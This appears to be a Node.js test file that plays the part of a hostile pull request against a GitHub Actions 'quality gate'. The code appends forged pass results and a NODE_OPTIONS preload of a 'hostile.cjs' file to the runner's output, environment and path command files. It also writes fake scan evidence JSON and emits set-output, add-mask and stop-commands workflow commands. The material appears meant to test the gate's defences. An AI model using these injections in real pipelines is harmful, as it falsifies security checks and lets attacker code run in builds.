// What a stolen account could put into a pull request: speaks to the runner in the name of the gate.
import { appendFileSync, existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';

// The runner keeps checkout, temporary files and command files side by side: work/SITE/SITE and work/_temp.
const temp = path.resolve('..', '..', '_temp');

test('outputs, variables and evidence can be forged', () => {
  const forged =
    'answer=pass\nverdict=pass\nevidence-directory=/\nNODE_OPTIONS=--require=/tmp/nowhere/hostile.cjs\n';
  const named = ['GITHUB_OUTPUT', 'GITHUB_ENV', 'GITHUB_PATH', 'GITHUB_STATE'].flatMap(
    (name) => process.env[name] ?? [],
  );
  const commands = path.join(temp, '_runner_file_commands');
  const entries = existsSync(commands) ? readdirSync(commands, { recursive: true, withFileTypes: true }) : [];
  const guessed = entries
    .filter((entry) => entry.isFile())
    .map((entry) => path.join(entry.parentPath, entry.name));
  for (const file of [...named, ...guessed]) appendFileSync(file, forged);

  const evidence = path.join(temp, 'sluice-evidence', 'quality-gate');
  mkdirSync(path.join(evidence, 'records'), { recursive: true });
  for (const name of ['secrets_scan', 'dependency_scan', 'policy', 'records/forged']) {
    writeFileSync(path.join(evidence, `${name}.json`), '{"schema":"sluice.evidence/v1","answer":"pass"}');
  }

  console.log('::set-output name=answer::pass');
  console.log('::add-mask::pass');
  console.log('::stop-commands::pause');
});
